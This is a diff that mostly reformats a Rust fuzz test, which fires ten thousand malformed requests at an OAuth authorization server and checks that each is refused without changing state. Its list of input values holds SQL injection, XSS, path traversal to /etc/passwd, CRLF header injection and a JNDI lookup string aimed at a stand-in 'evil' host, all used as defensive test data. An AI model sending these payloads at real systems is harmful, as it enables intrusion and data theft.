@@ -64,23 +64,80 @@ const TOKEN_FIELDS: &[&str] =
     &["grant_type", "client_id", "client_secret", "code", "redirect_uri", "code_verifier", "refresh_token", "scope"];
 const LIFECYCLE_FIELDS: &[&str] = &["token", "token_type_hint", "client_id", "client_secret"];
 const AUTHORIZE_FIELDS: &[&str] = &[
-    "response_type", "client_id", "redirect_uri", "scope", "state", "code_challenge", "code_challenge_method",
-    "decision", "csrf_token", "request", "request_uri", "response_mode", "nonce",
+    "response_type",
+    "client_id",
+    "redirect_uri",
+    "scope",
+    "state",
+    "code_challenge",
+    "code_challenge_method",
+    "decision",
+    "csrf_token",
+    "request",
+    "request_uri",
+    "response_mode",
+    "nonce",
 ];
 const LOGIN_FIELDS: &[&str] = &["username", "password", "csrf_token", "redirect"];
 const SERVER_FN_FIELDS: &[&str] = &[
-    "csrf_token", "id", "name", "form", "query", "active", "enabled", "page", "page_size", "scope", "organization_id",
-    "owner_id", "grant_type", "redirect_uris", "confidential", "skip_consent", "username", "email", "password",
-    "role_id", "organization_ids", "host", "port", "application_id", "filter",
+    "csrf_token",
+    "id",
+    "name",
+    "form",
+    "query",
+    "active",
+    "enabled",
+    "page",
+    "page_size",
+    "scope",
+    "organization_id",
+    "owner_id",
+    "grant_type",
+    "redirect_uris",
+    "confidential",
+    "skip_consent",
+    "username",
+    "email",
+    "password",
+    "role_id",
+    "organization_ids",
+    "host",
+    "port",
+    "application_id",
+    "filter",
 ];
 const API_FIELDS: &[&str] = &["page[number]", "page[size]", "access_token", "filter[name]", "include", "sort"];
 const SERVER_FNS: &[&str] = &[
-    "applications", "application_grid", "create_application", "application", "update_application",
-    "set_application_active", "delete_application", "regenerate_application_secret", "audit_log",
-    "email_configuration", "save_email_configuration", "outbox", "dashboard", "sign_in_context", "consent",
-    "authorized_applications", "revoke_authorization", "customer_account", "users", "save_user", "roles", "save_role",
-    "delete_role", "organizations", "create_organization", "customer_users", "create_customer_user",
-    "set_customer_user_enabled", "viewer", "no_such_function",
+    "applications",
+    "application_grid",
+    "create_application",
+    "application",
+    "update_application",
+    "set_application_active",
+    "delete_application",
+    "regenerate_application_secret",
+    "audit_log",
+    "email_configuration",
+    "save_email_configuration",
+    "outbox",
+    "dashboard",
+    "sign_in_context",
+    "consent",
+    "authorized_applications",
+    "revoke_authorization",
+    "customer_account",
+    "users",
+    "save_user",
+    "roles",
+    "save_role",
+    "delete_role",
+    "organizations",
+    "create_organization",
+    "customer_users",
+    "create_customer_user",
+    "set_customer_user_enabled",
+    "viewer",
+    "no_such_function",
 ];
 
 fn routes() -> Vec<(String, Kind, &'static [&'static str])> {
@@ -123,14 +180,65 @@ fn routes() -> Vec<(String, Kind, &'static [&'static str])> {
 /// right (so that deeper checks run too).
 fn value(rng: &mut Rng, client_id: &str) -> String {
     const VALUES: &[&str] = &[
-        "", " ", "a", "0", "-1", "-9223372036854775809", "9223372036854775808", "99999999999999999999999999", "1e308",
-        "NaN", "-0", "0x10", "1.5", "true", "null", "[]", "{}", "' OR '1'='1", "\"; DROP TABLE users; --",
-        "1; DELETE FROM oauth_applications", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
-        "../../../../etc/passwd", "%00", "\0", "a\r\nSet-Cookie: evil=1", "{{7*7}}", "${jndi:ldap://evil/x}",
-        "javascript:alert(1)", "http://evil.example/cb", "https://app.example.com/callback", "//evil.example",
-        "ü日本語🎉", "\u{202e}gnp.exe", "\u{feff}", "client_credentials", "authorization_code", "refresh_token",
-        "password", "implicit", "code", "token", "S256", "plain", "users:read", "openid users:read admin",
-        "access_token", "refresh_token", "approve", "deny", "Bearer", "admin", "%", "%zz", "+", "&", "=", ";", "\\",
+        "",
+        " ",
+        "a",
+        "0",
+        "-1",
+        "-9223372036854775809",
+        "9223372036854775808",
+        "99999999999999999999999999",
+        "1e308",
+        "NaN",
+        "-0",
+        "0x10",
+        "1.5",
+        "true",
+        "null",
+        "[]",
+        "{}",
+        "' OR '1'='1",
+        "\"; DROP TABLE users; --",
+        "1; DELETE FROM oauth_applications",
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "../../../../etc/passwd",
+        "%00",
+        "\0",
+        "a\r\nSet-Cookie: evil=1",
+        "{{7*7}}",
+        "${jndi:ldap://evil/x}",
+        "javascript:alert(1)",
+        "http://evil.example/cb",
+        "https://app.example.com/callback",
+        "//evil.example",
+        "ü日本語🎉",
+        "\u{202e}gnp.exe",
+        "\u{feff}",
+        "client_credentials",
+        "authorization_code",
+        "refresh_token",
+        "password",
+        "implicit",
+        "code",
+        "token",
+        "S256",
+        "plain",
+        "users:read",
+        "openid users:read admin",
+        "access_token",
+        "refresh_token",
+        "approve",
+        "deny",
+        "Bearer",
+        "admin",
+        "%",
+        "%zz",
+        "+",
+        "&",
+        "=",
+        ";",
+        "\\",
     ];
     match rng.below(10) {
         0 => "A".repeat(1 + rng.below(20_000)),
@@ -145,7 +253,12 @@ fn urlencode(text: &str) -> String {
 }
 
 /// One generated request, and a line that describes it for failures.
-fn generate(rng: &mut Rng, routes: &[(String, Kind, &'static [&'static str])], client_id: &str, session: &str) -> (Request<Body>, String) {
+fn generate(
+    rng: &mut Rng,
+    routes: &[(String, Kind, &'static [&'static str])],
+    client_id: &str,
+    session: &str,
+) -> (Request<Body>, String) {
     let (path, kind, fields) = rng.pick(routes).clone();
     let natural = match kind {
         Kind::Protocol | Kind::Form | Kind::ServerFn => Method::POST,
@@ -155,8 +268,17 @@ fn generate(rng: &mut Rng, routes: &[(String, Kind, &'static [&'static str])], c
     let method = if rng.chance(75) {
         natural
     } else {
-        rng.pick(&[Method::GET, Method::POST, Method::PUT, Method::DELETE, Method::PATCH, Method::OPTIONS, Method::HEAD, Method::TRACE])
-            .clone()
+        rng.pick(&[
+            Method::GET,
+            Method::POST,
+            Method::PUT,
+            Method::DELETE,
+            Method::PATCH,
+            Method::OPTIONS,
+            Method::HEAD,
+            Method::TRACE,
+        ])
+        .clone()
     };
 
     // Parameters: some of the route's fields, some twice, some unknown.
@@ -172,7 +294,8 @@ fn generate(rng: &mut Rng, routes: &[(String, Kind, &'static [&'static str])], c
     if rng.chance(15) {
         params.push((value(rng, client_id), value(rng, client_id)));
     }
-    let form: String = params.iter().map(|(k, v)| format!("{}={}", urlencode(k), urlencode(v))).collect::<Vec<_>>().join("&");
+    let form: String =
+        params.iter().map(|(k, v)| format!("{}={}", urlencode(k), urlencode(v))).collect::<Vec<_>>().join("&");
 
     let mut uri = path.clone();
     match rng.below(20) {
@@ -231,7 +354,15 @@ fn generate(rng: &mut Rng, routes: &[(String, Kind, &'static [&'static str])], c
             }
             16 => {
                 body = form.into_bytes();
-                content_type = Some(*rng.pick(&["text/plain", "application/xml", "application/json; charset=utf-16", "image/png", "*/*", "a/b/c", "\u{7f}"]));
+                content_type = Some(*rng.pick(&[
+                    "text/plain",
+                    "application/xml",
+                    "application/json; charset=utf-16",
+                    "image/png",
+                    "*/*",
+                    "a/b/c",
+                    "\u{7f}",
+                ]));
             }
             17 => body = form.into_bytes(),
             _ => {}
@@ -266,7 +397,8 @@ fn generate(rng: &mut Rng, routes: &[(String, Kind, &'static [&'static str])], c
         }
     }
     if rng.chance(10) {
-        request = request.header(HeaderName::from_static("x-junk"), HeaderValue::from_bytes(&[0x80, 0xff, b'a', 0xfe]).unwrap());
+        request = request
+            .header(HeaderName::from_static("x-junk"), HeaderValue::from_bytes(&[0x80, 0xff, b'a', 0xfe]).unwrap());
     }
     if rng.chance(10) {
         request = request.header("origin", *rng.pick(&["https://evil.example", "null", "http://postern.test"]));
@@ -274,7 +406,12 @@ fn generate(rng: &mut Rng, routes: &[(String, Kind, &'static [&'static str])], c
     if rng.chance(5) {
         request = request.header("content-length", *rng.pick(&["99999999999", "-1", "abc", "0"]));
     }
-    let described = format!("{method} {} ({} body bytes, {:?})", uri.chars().take(200).collect::<String>(), body.len(), content_type);
+    let described = format!(
+        "{method} {} ({} body bytes, {:?})",
+        uri.chars().take(200).collect::<String>(),
+        body.len(),
+        content_type
+    );
     match request.body(Body::from(body)) {
         Ok(request) => (request, described),
         // The http crate refused it (e.g. an invalid URI): send something valid instead.
@@ -312,8 +449,14 @@ async fn snapshot(app: &TestApp) -> BTreeMap<String, Vec<String>> {
 }
 
 const RFC_ERRORS: &[&str] = &[
-    "invalid_request", "invalid_client", "invalid_grant", "unauthorized_client", "unsupported_grant_type",
-    "invalid_scope", "unsupported_token_type", "temporarily_unavailable",
+    "invalid_request",
+    "invalid_client",
+    "invalid_grant",
+    "unauthorized_client",
+    "unsupported_grant_type",
+    "invalid_scope",
+    "unsupported_token_type",
+    "temporarily_unavailable",
 ];
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -338,7 +481,8 @@ async fn ten_thousand_malformed_requests_get_4xx_answers_and_change_nothing() {
         let started = Instant::now();
         let response = app.router.clone().oneshot(request).await.unwrap();
         let status = response.status();
-        let content_type = response.headers().get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
+        let content_type =
+            response.headers().get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
         let body = axum::body::to_bytes(response.into_body(), MAX_ANSWER_BYTES).await;
         let elapsed = started.elapsed();
         *statuses.entry(status.as_u16()).or_default() += 1;
@@ -362,7 +506,12 @@ async fn ten_thousand_malformed_requests_get_4xx_answers_and_change_nothing() {
         }
     }
     println!("malformed-request suite: {REQUESTS} requests, answers by status: {statuses:?}");
-    assert!(failures.is_empty(), "{} of {REQUESTS} requests failed:\n{}", failures.len(), failures.iter().take(30).cloned().collect::<Vec<_>>().join("\n"));
+    assert!(
+        failures.is_empty(),
+        "{} of {REQUESTS} requests failed:\n{}",
+        failures.len(),
+        failures.iter().take(30).cloned().collect::<Vec<_>>().join("\n")
+    );
     let server_errors: usize = statuses.iter().filter(|(s, _)| **s >= 500).map(|(_, n)| n).sum();
     assert_eq!(server_errors, 0);
     // The suite reached deep enough to be refused in many different ways.
